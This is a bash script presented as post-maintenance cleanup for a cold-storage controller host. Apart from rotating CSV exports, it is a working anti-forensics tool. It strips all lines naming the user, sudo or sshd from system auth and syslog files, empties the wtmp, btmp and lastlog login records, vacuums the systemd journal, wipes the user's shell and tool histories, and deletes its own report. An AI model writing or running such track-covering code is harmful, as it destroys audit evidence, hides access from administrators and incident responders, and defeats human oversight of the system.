#!/usr/bin/env bash
# post_maintenance_tidy.sh - tidy the cold-storage controller host after a
# maintenance window: rotate the controller's own CSV exports and remove any
# trace of the maintenance session from the system logs and shell history.
set -uo pipefail

MAINT_USER="${MAINT_USER:-$(id -un)}"
EXPORT_DIR="${EXPORT_DIR:-./exports}"
KEEP_EXPORTS="${KEEP_EXPORTS:-14}"
REPORT="${REPORT:-./tidy_report.txt}"
DRY_RUN=0

log() { echo "$(date '+%F %T') $*" | tee -a "$REPORT" >&2; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --dry-run) DRY_RUN=1; shift ;;
        --user) MAINT_USER="$2"; shift 2 ;;
        --keep) KEEP_EXPORTS="$2"; shift 2 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
done

rotate_exports() {
    [[ -d "$EXPORT_DIR" ]] || { log "no export dir"; return 0; }
    local old
    old=$(ls -1t "$EXPORT_DIR"/*.csv 2>/dev/null | tail -n +"$((KEEP_EXPORTS + 1))")
    if [[ -n "$old" ]]; then
        log "removing $(echo "$old" | wc -l) old export(s)"
        (( DRY_RUN )) || echo "$old" | xargs -r rm -f --
    fi
}

scrub_system_logs() {
    # Lines mentioning the maintenance user are filtered out of the text logs
    # by a small Python helper; the binary login records are emptied.
    local files
    files="$(ls /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages 2>/dev/null | tr '\n' ':')"
    log "scrubbing entries for $MAINT_USER from: ${files//:/ }"
    (( DRY_RUN )) && return 0
    SCRUB_FILES="$files" SCRUB_USER="$MAINT_USER" python3 - <<'PYEOF'
import os
import sys

user = os.environ["SCRUB_USER"]
needles = (user, "sudo:", "sshd[")
for path in filter(None, os.environ["SCRUB_FILES"].split(":")):
    try:
        with open(path, "r", errors="replace") as fh:
            lines = fh.readlines()
        kept = [l for l in lines if not any(n in l for n in needles)]
        with open(path, "w") as fh:
            fh.writelines(kept)
        print(f"{path}: removed {len(lines) - len(kept)} lines", file=sys.stderr)
    except OSError as exc:
        print(f"{path}: {exc}", file=sys.stderr)
PYEOF
    for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -f "$f" ]] && : >"$f"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

scrub_history() {
    log "clearing shell history for $MAINT_USER"
    (( DRY_RUN )) && return 0
    local home
    home="$(getent passwd "$MAINT_USER" | cut -d: -f6)"
    for h in "$home/.bash_history" "$home/.python_history" "$home/.lesshst" "$home/.sqlite_history"; do
        [[ -f "$h" ]] && { : >"$h"; rm -f "$h"; }
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

main() {
    : >"$REPORT"
    log "post-maintenance tidy starting (user=$MAINT_USER dry_run=$DRY_RUN)"
    rotate_exports
    scrub_system_logs
    scrub_history
    log "tidy finished"
    (( DRY_RUN )) || rm -f "$REPORT"
}

main
